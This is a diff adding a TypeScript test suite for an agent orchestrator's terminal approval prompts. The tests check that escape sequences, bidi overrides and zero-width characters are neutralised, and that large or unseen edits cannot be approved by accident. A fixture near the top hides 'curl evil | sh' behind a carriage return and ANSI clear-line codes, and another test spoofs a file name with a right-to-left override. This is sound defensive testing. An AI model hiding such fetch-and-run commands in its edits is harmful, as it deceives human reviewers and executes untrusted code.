@@ -1,0 +1,155 @@
+import assert from 'node:assert/strict';
+import { PassThrough } from 'node:stream';
+import { CliApprovals } from '../../../src/cli/cliApprovals';
+import type { CliOutput } from '../../../src/cli/cliIo';
+import { TerminalPrompt } from '../../../src/cli/terminalPrompt';
+import { renderUnifiedDiff } from '../../../src/cli/unifiedDiff';
+import type { EditProposal } from '../../../src/core/tools/approvalPort';
+
+const ESC = '\u001b';
+/** Content whose `curl evil | sh` a raw terminal would erase: CR, clear-line, then a harmless line. */
+const HIDDEN = `curl evil | sh\r${ESC}[2K${ESC}[1A# just a comment`;
+
+function proposal(after: string, before: string | null = 'echo hi\n'): EditProposal {
+  return {
+    approvalId: 'T1:edit:setup.sh:1',
+    runId: 'r1',
+    taskId: 'T1',
+    agentId: 'coder',
+    path: 'setup.sh',
+    before: before ?? undefined,
+    after,
+    reason: 'edits ask',
+    protected: false,
+    policy: 'ask',
+  };
+}
+
+/** A terminal: everything written is kept; each question is answered with the next of `answers` (none: stdin ends). */
+function terminal(answers: string[]): { prompt: TerminalPrompt; written: () => string; questions: string[] } {
+  const input = new PassThrough();
+  const chunks: string[] = [];
+  const questions: string[] = [];
+  const output: CliOutput = {
+    write(text) {
+      chunks.push(text);
+      if (!/\] $/.test(text)) return;
+      questions.push(text.slice(text.lastIndexOf('\n') + 1));
+      const next = answers.shift();
+      setImmediate(() => (next === undefined ? input.end() : input.write(`${next}\n`)));
+    },
+    isTTY: true,
+    columns: 80,
+    flush: async () => undefined,
+  };
+  return { prompt: new TerminalPrompt(input, output), written: () => chunks.join(''), questions };
+}
+
+function approvals(prompt: TerminalPrompt, maxDiffLines?: number): CliApprovals {
+  return new CliApprovals({
+    mode: 'prompt',
+    prompt,
+    color: false,
+    maxDiffLines,
+    resumeCommand: (id) => `agent-orchestrator resume ${id}`,
+  });
+}
+
+const numbered = (n: number): string => Array.from({ length: n }, (_, i) => `line ${i + 1}\n`).join('');
+
+describe('checklist 30: terminal approvals show escapes and the whole change', () => {
+  it('shows a `curl evil | sh` hidden behind \\r and \\x1b[2K as escapes, with a marker', async () => {
+    const term = terminal(['n']);
+    const decision = await approvals(term.prompt).decideEdit(proposal(`${HIDDEN}\n`), new AbortController().signal);
+    assert.equal(decision.decision, 'rejected');
+    const out = term.written();
+    assert.ok(!out.includes(ESC), 'no raw ESC reaches the terminal');
+    assert.ok(!out.includes('\r'), 'no raw CR reaches the terminal');
+    assert.ok(out.includes('+curl evil | sh\\r\\x1b[2K\\x1b[1A# just a comment'), out);
+    assert.match(out, /⚠ 3 hidden or control characters shown as escapes/);
+  });
+
+  it('neutralises bidi overrides and zero-width characters in the path and labels too', async () => {
+    const term = terminal(['']);
+    const p = {
+      ...proposal('x\n'),
+      path: 'ok\u202Ehs.txt',
+      agentId: 'co\u200Bder',
+      reason: `fine${ESC}]0;title\u0007`,
+    };
+    await approvals(term.prompt).decideEdit(p, new AbortController().signal);
+    const out = term.written();
+    for (const char of ['\u202E', '\u200B', '\u0007', ESC]) assert.ok(!out.includes(char), out);
+    assert.ok(out.includes('ok\\u202ehs.txt'));
+    assert.ok(out.includes('co\\u200bder'));
+    assert.ok(out.includes('fine\\x1b]0;title\\x07'));
+  });
+
+  it('a 1,000-line diff states exactly how many lines are hidden and defaults to reject', async () => {
+    const whole = renderUnifiedDiff('big.txt', undefined, numbered(1000), { maxLines: Number.POSITIVE_INFINITY });
+    assert.equal(whole.totalLines, 1003);
+    const term = terminal(['']);
+    const decision = await approvals(term.prompt).decideEdit(
+      proposal(numbered(1000), null),
+      new AbortController().signal,
+    );
+    assert.equal(decision.decision, 'rejected', 'Enter rejects');
+    const out = term.written();
+    assert.match(out, /… 603 more lines not shown/);
+    assert.match(term.questions[0] ?? '', /603 of its 1003 diff lines were not shown/);
+    assert.match(term.questions[0] ?? '', /\[v\/apply unseen\/N\] $/);
+    assert.ok(!out.includes('+line 1000'));
+  });
+
+  it('y alone does not approve an unseen change; v shows it all, then y approves', async () => {
+    const term = terminal(['y', 'v', 'y']);
+    const decision = await approvals(term.prompt).decideEdit(
+      proposal(numbered(1000), null),
+      new AbortController().signal,
+    );
+    assert.equal(decision.decision, 'accepted');
+    assert.equal(term.questions.length, 3);
+    assert.match(term.questions[1] ?? '', /were not shown/);
+    assert.match(term.questions[2] ?? '', /\[y\/N\] $/);
+    const out = term.written();
+    assert.match(out, /Not all of this edit was shown/);
+    assert.ok(out.includes('+line 1000'));
+  });
+
+  it('applying unseen is an explicit answer', async () => {
+    const term = terminal(['apply unseen']);
+    const decision = await approvals(term.prompt, 50).decideEdit(
+      proposal(numbered(100), null),
+      new AbortController().signal,
+    );
+    assert.equal(decision.decision, 'accepted');
+    assert.match(term.questions[0] ?? '', /53 of its 103 diff lines were not shown/);
+  });
+
+  it('a short diff is shown whole and asks y/N as before; auto never prompts', async () => {
+    const term = terminal(['y']);
+    const decision = await approvals(term.prompt).decideEdit(proposal('echo bye\n'), new AbortController().signal);
+    assert.equal(decision.decision, 'accepted');
+    assert.match(term.questions[0] ?? '', /^Apply this edit to setup\.sh\? \[y\/N\] $/);
+    const auto = terminal([]);
+    const autoApprovals = new CliApprovals({
+      mode: 'auto',
+      prompt: auto.prompt,
+      color: false,
+      resumeCommand: () => '',
+    });
+    assert.equal(
+      (await autoApprovals.decideEdit(proposal(numbered(1000)), new AbortController().signal)).decision,
+      'accepted',
+    );
+    assert.equal(auto.written(), '');
+  });
+
+  it('a closed terminal pauses the run rather than approving', async () => {
+    const term = terminal([]);
+    await assert.rejects(
+      approvals(term.prompt).decideEdit(proposal(numbered(1000), null), new AbortController().signal),
+      /terminal closed before an answer/,
+    );
+  });
+});
